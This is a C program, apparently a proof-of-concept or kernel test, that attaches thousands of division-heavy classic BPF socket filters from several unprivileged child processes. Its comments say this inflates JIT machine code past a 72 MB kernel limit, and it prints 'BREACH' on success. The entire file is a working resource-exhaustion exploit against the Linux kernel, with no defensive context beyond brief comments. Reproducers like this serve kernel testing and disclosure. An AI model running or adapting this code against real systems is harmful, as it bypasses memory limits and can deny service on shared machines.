// SO_ATTACH_FILTER is anybody's right. A division becomes some 24 bytes of code, so that a filter of 32 kB is one of 100 kB more.
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

int main(void) {
    alarm(12);
    static struct sock_filter code[4096];
    for (int i = 0; i < 4095; i++) code[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_DIV | BPF_K, 3 + i % 7);
    code[4095] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, 0xffff);
    struct sock_fprog program = {4096, code};
    int results[2];
    if (pipe(results) != 0) return 1;
    for (int child = 0; child < 6; child++) {
        if (fork() != 0) continue;
        int made = 0;
        while (made < 200) {
            int file = socket(AF_UNIX, SOCK_DGRAM, 0);
            if (file < 0 || setsockopt(file, SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program) != 0) break;
            made++;
        }
        if (made < 200) dprintf(1, "refused: %s setsockopt after %d\n", strerrorname_np(errno), made);
        (void)!write(results[1], &made, sizeof made);
        usleep(700000);
        _exit(0);
    }
    close(results[1]);
    int all = 0, one;
    while (read(results[0], &one, sizeof one) == sizeof one) all += one;
    // 1,200 of them are 50 MB of filters and more than 100 MB of code, with a limit of 72 MB.
    if (all >= 1200) printf("BREACH: %d filters, more than 100 MB of machine code beside the limit\n", all);
    else printf("%d filters\n", all);
    return 0;
}
